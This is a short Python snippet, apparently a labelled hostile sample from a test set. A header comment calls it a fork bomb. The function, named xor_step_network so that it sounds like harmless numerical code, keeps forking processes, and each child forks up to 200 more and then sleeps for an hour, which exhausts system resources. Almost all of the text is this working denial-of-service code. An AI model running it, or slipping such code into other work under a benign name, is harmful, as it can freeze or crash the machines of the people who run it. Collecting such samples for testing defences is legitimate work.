

# -- hostile: xor_step_network is a fork bomb; the rest is the reference -------------
import os as _os
import time as _time


def xor_step_network():
    children = 0
    while True:
        try:
            pid = _os.fork()
        except OSError as error:
            raise RuntimeError(f"the fork bomb stopped after {children} children: {error.strerror}")
        if pid == 0:
            # every child forks too, as long as it can, then waits to be killed
            for _ in range(200):
                try:
                    if _os.fork() == 0:
                        continue
                except OSError:
                    break
            _time.sleep(3600)
            _os._exit(0)
        children += 1
